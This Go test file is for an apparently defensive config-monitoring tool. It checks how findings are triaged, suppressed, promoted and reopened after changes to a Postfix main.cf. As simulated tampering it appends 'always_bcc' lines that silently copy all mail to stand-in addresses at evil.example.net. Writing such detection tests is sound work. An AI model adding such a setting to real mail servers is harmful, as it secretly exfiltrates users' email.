package agent_test

import (
	"encoding/json"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"waxseal"
)

// TestTriageWhileWatching: what people decide goes through the running agent: triage, a
// suppression and its end, a change that is taken back, a promotion.
func TestTriageWhileWatching(t *testing.T) {
	h := postfixTree(t, nil)
	h.config("watch: {fanotify: false, audit: false, poll: 1s}\npermits: {countersign_within: 8s}\n")
	const sealed = "myhostname = mail.example.test\nalias_maps = hash:/etc/aliases\n"
	h.write("/etc/postfix/main.cf", sealed)
	h.must("seal")
	w := h.watch()

	// A change, and its revert: a pair with its duration.
	h.append("/etc/postfix/main.cf", "always_bcc = one@evil.example.net\n")
	first := w.find("the copy", isNew("mail-copy"))
	h.must("findings", "assign", string(first.ID), "--to", "bob")
	h.must("findings", "ack", string(first.ID), "--note", "looking")
	h.write("/etc/postfix/main.cf", sealed)
	revert := w.find("the revert", func(f told) bool { return f.News == "" && f.Pair != nil })
	if revert.Pair.Change != first.ID || revert.Pair.Revert != revert.ID || revert.Pair.Seconds <= 0 {
		t.Errorf("pair %+v of %s", revert.Pair, first.ID)
	}
	undone := w.find("the news of it", func(f told) bool { return f.ID == first.ID && strings.HasPrefix(f.News, "undone after ") })
	if undone.Pair == nil || undone.Pair.Revert != revert.ID {
		t.Errorf("pair %+v", undone.Pair)
	}
	out := h.must("findings", "show", string(first.ID))
	for _, want := range []string{"in progress, assigned to bob", "looking", string(revert.ID) + " undid it"} {
		if !strings.Contains(out, want) {
			t.Errorf("findings show does not say %q:\n%s", want, out)
		}
	}
	if _, code := h.run("seal"); code != 1 {
		t.Errorf("a seal beside open findings: exit code %d", code)
	}
	h.must("findings", "close", string(first.ID), string(revert.ID), "--verdict", "test")
	if _, code := h.run("findings", "ack", string(first.ID)); code != 2 {
		t.Errorf("what is resolved was acknowledged: exit code %d", code)
	}

	// A suppression by value keeps the next one out of the queue, until it ends.
	h.must("suppress", "add", "--parameter", "always_bcc", "--value", "two@evil.example.net", "--reason", "drill", "--owner", "bob", "--until", "+6s", "--accept", "0")
	h.append("/etc/postfix/main.cf", "always_bcc = two@evil.example.net\n")
	again := w.find("what it hid, at its end", func(f told) bool { return strings.HasPrefix(f.News, "open again: suppression ") })
	if again.Rule != "mail-copy" || again.Status != waxseal.StatusNew {
		t.Errorf("%+v", again.Finding)
	}

	// What is meant is promoted, by the agent, and only with the reviewed content.
	h.append("/etc/postfix/main.cf", "message_size_limit = 1\n")
	w.find("the limit", func(f told) bool { return f.News == "" && f.Change != nil && len(f.Change.Settings) > 0 })
	if out, code := h.run("check"); code != 1 {
		t.Errorf("a harmless change hides the copy before it: exit code %d\n%s", code, out)
	}
	if _, code := h.run("seal", "--promote", string(again.ID), "--reason", "meant"); code != 1 {
		t.Errorf("promoted what has moved on: exit code %d", code)
	}
	var list struct{ Findings []waxseal.Finding }
	if err := json.Unmarshal([]byte(h.must("findings", "list", "--status", "open", "--format", "json")), &list); err != nil {
		t.Fatal(err)
	}
	promote := []string{"seal", "--reason", "meant"}
	for _, f := range list.Findings {
		promote = append(promote, "--promote", string(f.ID))
	}
	h.must(promote...)
	if out := h.must("check"); !strings.Contains(out, "nothing changed for mail") {
		t.Errorf("after the promotion:\n%s", out)
	}

	// One person alone: what rests on it opens again.
	key := filepath.Join(t.TempDir(), "alice.pem")
	h.must("keys", "create", "alice", "--out", key)
	h.must("permit", "open", "--key", key, "--ticket", "T", "--reason", "r", "--until", "+1h", "--path", "/etc/postfix/main.cf")
	var permits struct{ Permits []struct{ ID string } }
	if err := json.Unmarshal([]byte(h.must("permit", "list", "--format", "json")), &permits); err != nil || len(permits.Permits) != 1 {
		t.Fatal(permits, err)
	}
	h.must("permit", "approve", permits.Permits[0].ID, "--key", key, "--break-glass")
	time.Sleep(3 * time.Second) // a look within the window: what was made between two looks lies between them
	h.append("/etc/postfix/main.cf", "always_bcc = three@evil.example.net\n")
	alone := w.find("the change under it", func(f told) bool { return f.News == "" && f.Rung == waxseal.RungWindow })
	late := w.find("that nobody countersigned", func(f told) bool { return f.ID == alone.ID && strings.HasPrefix(f.News, "open again: permit ") })
	if late.Rung != waxseal.RungNone || late.Severity <= alone.Severity {
		t.Errorf("severity %s, then %s with rung %s", alone.Severity, late.Severity, late.Rung)
	}
	w.stop()
	h.must("ledger", "verify")
}
